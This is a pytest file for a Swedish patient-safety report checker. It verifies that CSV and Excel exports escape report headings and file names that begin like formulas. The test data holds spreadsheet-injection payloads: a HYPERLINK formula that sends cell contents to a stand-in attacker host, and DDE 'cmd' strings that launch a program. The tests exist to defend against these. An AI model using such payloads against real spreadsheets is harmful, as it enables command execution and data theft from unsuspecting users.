"""Spreadsheet-safe coverage exports (issue 22): text from reports and file names that begins
like a formula is written so that Excel shows it and never runs it; numbers stay numbers."""

import csv
import io
from datetime import date

from openpyxl import load_workbook

import sosfs_check
from sosfs_check.matrix import matrix
from sosfs_check.render import matrix as render
from sosfs_check.packs import builtin_rules
from sosfs_check.testing import build_docx

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HEADINGS = ['=HYPERLINK("http://angripare.test/?"&A1;"Klicka")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def hostile_table(tmp_path):
    results = []
    for n, heading in enumerate(HEADINGS):
        spec = (f"%% Patientsäkerhetsberättelse 2024\n\n# {heading}\n\n## Riskanalys\n\n"
                "Riskanalyser har genomförts inför varje förändring i verksamheten under året, och riskerna "
                "har bedömts och åtgärdats av arbetsgrupperna tillsammans med verksamhetschefen.\n")
        path = build_docx(spec, tmp_path / f"{'=@+-'[n]}rapport{n}.docx")
        results.append(sosfs_check.check(path, profile="patientsakerhetsberattelse", as_of=date(2026, 11, 25)))
    return matrix(results, builtin_rules())


def test_no_csv_cell_starts_with_a_formula_character(tmp_path):
    table = hostile_table(tmp_path)
    rows = list(csv.reader(io.StringIO(render.csv_text(table).lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    assert rows[0][3:11:2] == ["'=rapport0.docx", "'@rapport1.docx", "'+rapport2.docx", "'-rapport3.docx"]
    risk = next(row for row in rows if row[1] == "SOSFS 2011:9 5 kap. 1 §")
    assert risk[4:11:2] == [f"'{heading} > Riskanalys" for heading in HEADINGS]


def test_numbers_stay_numbers_in_csv_and_xlsx(tmp_path):
    table = hostile_table(tmp_path)
    rows = list(csv.reader(io.StringIO(render.csv_text(table).lstrip("\ufeff")), delimiter=";"))
    risk = next(row for row in rows if row[1] == "SOSFS 2011:9 5 kap. 1 §")
    requirement = next(r for r in table.requirements if r.citation == "SOSFS 2011:9 5 kap. 1 §")
    assert risk[-4:] == [str(requirement.totals[s]) for s in ("uppfyllt", "delvis", "ej_uppfyllt", "ej_tillampligt")]
    sheet = load_workbook(io.BytesIO(render.xlsx(table))).active
    numbers = [cell.value for cell in next(r for r in sheet.iter_rows() if r[1].value == "SOSFS 2011:9 5 kap. 1 §")][-4:]
    assert numbers == [requirement.totals[s] for s in ("uppfyllt", "delvis", "ej_uppfyllt", "ej_tillampligt")]


def test_no_xlsx_cell_is_a_formula(tmp_path):
    sheet = load_workbook(io.BytesIO(render.xlsx(hostile_table(tmp_path)))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)] == []
    assert [c.value for c in sheet[1]][3:7] == ["'=rapport0.docx", "'@rapport1.docx", "'+rapport2.docx", "'-rapport3.docx"]
